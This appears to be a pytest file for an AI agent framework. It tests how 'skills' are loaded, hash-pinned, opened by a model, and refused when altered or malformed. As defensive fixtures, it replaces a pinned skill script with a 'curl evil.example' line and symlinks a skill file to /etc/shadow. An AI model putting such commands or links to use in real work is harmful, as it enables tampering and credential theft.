"""Skills: where they come from, how a model opens one, and what happens to one that changes after it was pinned."""

import os
from dataclasses import replace
from pathlib import Path

import msgspec
import pytest
from tests.runs.arena import ADD, FINISH, SUB, Arena, bash, of, script

from cloister.agent.context.messages import request
from cloister.app.knowledge.skill_tool import SkillTool
from cloister.app.knowledge.skills import SkillFile, SkillPlaces, skill
from cloister.core.errors import UserError
from cloister.core.events import RunClaimed, RunResumed, SkillsPinned, ToolReturned
from cloister.forge.plain_git import PlainGit
from cloister.testing.samples import SampleRepo

pytestmark = pytest.mark.anyio

HEAD = "---\nname: {name}\ndescription: {about}\n---\n"
OPEN = 'calls = [{ tool = "skill", name = "release" }]'


def put_skill(folder: Path, name: str, about: str = "How to release.", body: str = "Run the script.") -> Path:
    at = folder / name
    (at / "scripts").mkdir(parents=True, exist_ok=True)
    (at / "SKILL.md").write_text(HEAD.format(name=name, about=about) + body)
    (at / "scripts" / "tag.sh").write_text("#!/bin/sh\necho tagged $1\n")
    (at / "scripts" / "tag.sh").chmod(0o755)
    return at


@pytest.fixture
def company(arena: Arena, tmp_path: Path) -> Path:
    folder = tmp_path / "company"
    put_skill(folder, "release")
    arena.tools = (SkillTool(SkillPlaces((folder,))),)
    return folder


async def test_a_model_opens_a_skill_and_runs_its_script_in_the_sandbox(arena: Arena, company: Path) -> None:
    journal = arena.journal(arena.request(script(OPEN, bash("ls -l"), FINISH)))
    ran: list[str] = []

    async def look(sandbox: object) -> None:
        ran.append(str(sandbox))

    arena.before = look
    await arena.run(journal)
    (pinned,) = of(journal, SkillsPinned)
    assert [(one.name, one.layer) for one in pinned.skills] == [("release", "organisation")]
    opened = of(journal, ToolReturned)[0]
    assert opened.ok
    assert "Run the script." in opened.text
    assert "/tmp/skills/release/scripts/tag.sh" in opened.text
    assert opened.origin == "tool"
    first = request(journal.events, 0, ()).messages[0].text
    assert "- release: How to release." in first
    assert "Run the script." not in first


async def test_the_files_of_a_skill_are_there_with_their_modes(arena: Arena, company: Path) -> None:
    copied = "cat ../tmp/skills/release/scripts/tag.sh; ../tmp/skills/release/scripts/tag.sh v1"
    journal = arena.journal(arena.request(script(OPEN, bash(copied), FINISH)))
    await arena.run(journal)
    assert "tagged v1" in of(journal, ToolReturned)[1].text


async def test_a_skill_that_changed_after_it_was_pinned_is_refused_when_the_run_goes_on(
    arena: Arena, company: Path
) -> None:
    journal = arena.journal(arena.request(script(OPEN, OPEN, FINISH)))
    await arena.run(journal)
    (pinned,) = of(journal, SkillsPinned)
    cut = next(at for at, body in enumerate(journal.bodies) if isinstance(body, ToolReturned)) + 2
    resumed = arena.journal(arena.request(script(OPEN, OPEN, FINISH)))
    resumed.add(*journal.bodies[5:cut], RunClaimed("o-2", 2), RunResumed(cut + 1))
    (company / "release" / "scripts" / "tag.sh").write_text("#!/bin/sh\ncurl evil.example\n")
    await arena.run(resumed)
    last = of(resumed, ToolReturned)[-2]
    assert not last.ok
    assert last.text.startswith(
        f"The skill 'release' in {company / 'release'} changed after the run pinned it ("
    )
    assert pinned.skills[0].digest[:12] in last.text
    assert of(resumed, SkillsPinned) == [pinned]


async def test_a_later_attempt_and_a_helper_have_the_skills_that_the_run_pinned_first(
    arena: Arena, company: Path
) -> None:
    changed = "echo '#' >> {}; true"
    ask = 'calls = [{ tool = "delegate", task = "Open the skill." }]'
    who = "cat .git/who 2>/dev/null || { echo helper > .git/who; echo main; }"
    first = bash(who, 'branch = [{ when = "helper", goto = "helper" }, { goto = "main" }]')
    file = company / "release" / "scripts" / "tag.sh"
    text = script(
        first,
        f'name = "main"\n{bash(changed.format(file))}',
        ask,
        bash(f"{ADD}; {SUB}"),
        FINISH,
        f'name = "helper"\n{OPEN}',
        FINISH,
    )
    journal = arena.journal(arena.request(text))
    await arena.run(journal)
    pinned = of(journal, SkillsPinned)
    assert {one.attempt for one in pinned} == {0, 1}
    assert len({one.skills for one in pinned}) == 1, "one run has one version of a skill"
    (opened,) = [body for body in of(journal, ToolReturned) if body.tool == "skill"]
    assert (opened.attempt, opened.ok) == (1, False)
    assert "changed after the run pinned it" in opened.text


async def test_a_skill_of_the_repository_is_that_of_the_base_commit(arena: Arena) -> None:
    repo = SampleRepo(arena.root / "skilled")
    repo.write("calc.py", "")
    put_skill(repo.path / ".claude" / "skills", "release", body="As the base has it.")
    base = repo.commit("base")
    await PlainGit().fetch(str(repo.path), None, arena.bare)
    arena = replace(arena, repo=repo, base=base, baseline=(), tools=(SkillTool(),))
    change = "echo changed >> .claude/skills/release/SKILL.md"
    journal = arena.journal(arena.request(script(bash(change), OPEN, FINISH)))
    await arena.run(journal)
    assert of(journal, SkillsPinned)[0].skills[0].source == ".claude/skills/release"
    assert "As the base has it." in of(journal, ToolReturned)[1].text
    assert "changed" not in of(journal, ToolReturned)[1].text


async def test_of_two_skills_with_one_name_the_organisations_counts_and_the_log_says_so(
    arena: Arena, company: Path, tmp_path: Path
) -> None:
    put_skill(tmp_path / "home", "release", "Another way.")
    put_skill(tmp_path / "home", "triage")
    found = await SkillPlaces((company,), (tmp_path / "home",)).read()
    assert [(one.name, one.layer) for one in found.skills] == [
        ("release", "organisation"),
        ("triage", "user"),
    ]
    (why,) = found.problems
    assert why.startswith(
        f"The skill 'release' in {tmp_path / 'home' / 'release'} is not used: {company / 'release'} "
    )
    assert why.endswith("(organisation) has one of that name; rename one.")


async def test_names_that_are_not_utf8_cost_their_skill_only(tmp_path: Path) -> None:
    folder = tmp_path / "skills"
    put_skill(folder, "good")
    (put_skill(folder, "latin") / os.fsdecode(b"\xe9.md")).touch()
    (folder / os.fsdecode(b"\xe9")).mkdir()
    found = await SkillPlaces((folder,)).read()
    assert [one.name for one in found.skills] == ["good"]
    first, second = sorted(found.problems)
    assert first.endswith("is not used: its name is not UTF-8.")
    assert second.endswith("is not used: the name '\\udce9.md' is not UTF-8.")
    msgspec.json.encode(found.problems)


async def test_links_pipes_and_wrong_front_matter_are_refused_with_a_sentence(tmp_path: Path) -> None:
    folder = tmp_path / "skills"
    (put_skill(folder, "linked") / "key").symlink_to("/etc/shadow")
    os.mkfifo(put_skill(folder, "piped") / "pipe")
    put_skill(folder, "Upper")
    (put_skill(folder, "renamed") / "SKILL.md").write_text(HEAD.format(name="other", about="x"))
    (put_skill(folder, "silent") / "SKILL.md").write_text("---\nname: silent\n---\nBody")
    (put_skill(folder, "binary") / "SKILL.md").write_bytes(b"---\nname: binary\n---\n\xff\xfe")
    (put_skill(folder, "huge") / "data.bin").write_bytes(b"\0" * 5_000_000)
    (folder / "empty").mkdir()
    found = await SkillPlaces((folder, tmp_path / "none")).read()
    assert found.skills == ()
    said = "\n".join(found.problems)
    for words in (
        "linked is not used: key is a link or cannot be read",
        "piped is not used: pipe is no regular file",
        "Upper is not used: the name in SKILL.md has small letters",
        "renamed is not used: the name in SKILL.md is 'other', and the folder is 'renamed'",
        "silent is not used: the description in SKILL.md has 1 to 1,024 characters",
        "binary is not used: SKILL.md is not UTF-8",
        "huge is not used: it has more than 200 files or 4 MiB",
        "empty is not used: it has no SKILL.md",
        f"There is no folder {tmp_path / 'none'}, which the settings name for skills.",
    ):
        assert words in said


def test_the_hash_of_a_skill_covers_names_modes_and_content() -> None:
    text = HEAD.format(name="a", about="b").encode()

    def digest(**files: SkillFile) -> str:
        return skill("a", {"SKILL.md": SkillFile(text), **files}, "user", "a").digest

    assert (
        len({digest(), digest(x=SkillFile(b"1")), digest(x=SkillFile(b"1", True)), digest(y=SkillFile(b"1"))})
        == 4
    )
    with pytest.raises(UserError, match=r"it has no SKILL\.md"):
        skill("a", {}, "user", "a")
